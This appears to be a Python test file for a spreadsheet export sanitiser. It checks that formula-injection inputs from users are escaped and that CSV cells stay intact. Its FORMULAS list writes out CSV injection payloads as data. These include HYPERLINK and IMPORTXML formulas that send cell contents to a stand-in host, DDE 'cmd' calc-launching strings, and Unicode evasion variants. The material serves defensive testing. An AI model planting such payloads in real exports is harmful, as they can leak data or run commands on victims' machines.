"""T13: what strangers wrote never becomes a formula in a spreadsheet, and arrives word for word."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.rules.sheet import BOM, DANGEROUS, SKIPPED, cell, table

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"点这里")', "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|x",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    " =1+1", "\u3000＝1+1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", "\x00=1+1", "\x0b=1+1", "|calc", "%0A=1+1",
    "=\"\"\"", "=IMPORTXML(CONCAT(\"http://evil.example\",A1))", "-", "+86 138", "@张兰",
]  # fmt: skip
HARMLESS = [
    "", "3号楼门口井盖坏了", "1+1=2", "张兰", "'引号", "a,b", '他说"好"', "第一行\n第二行", "3-1-101", "2026-11-23",
    "😀", "user@example.cn", " 空格", "·", "（=1+1）",
]  # fmt: skip


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_shown_as_words(value):
    assert cell(value) == "'" + value.replace("\x00", "").replace("\x0b", "")


@pytest.mark.parametrize("value", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(value):
    assert cell(value) == value


@given(st.text())
def test_no_cell_begins_as_a_formula_does(value):
    safe = cell(value)

    assert not safe.lstrip(SKIPPED).startswith(DANGEROUS)
    assert not any(letter < " " and letter not in "\t\r\n" for letter in safe)


def test_a_table_opens_with_its_words_in_their_cells():
    rows = [["编号", "内容"], ["1023", '他说"=1+1",\n然后走了'], ["1024", "=1+1"]]
    written = table(rows)

    assert written.startswith(b"\xef\xbb\xbf")
    assert written.decode() == BOM + '"编号","内容"\r\n"1023","他说""=1+1"",\n然后走了"\r\n"1024","\'=1+1"\r\n'
    assert list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""))) == [*rows[:2], ["1024", "'=1+1"]]


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8")), min_size=1, max_size=4), min_size=1, max_size=4))
def test_nothing_slips_into_the_next_cell(rows):
    read = list(csv.reader(io.StringIO(table(rows).decode("utf-8-sig"), newline="")))

    assert read == [[cell(one) for one in row] for row in rows]


def test_half_a_letter_does_not_lose_the_table():
    assert table([["\ud83d"]]) == BOM.encode() + b'"?"\r\n'
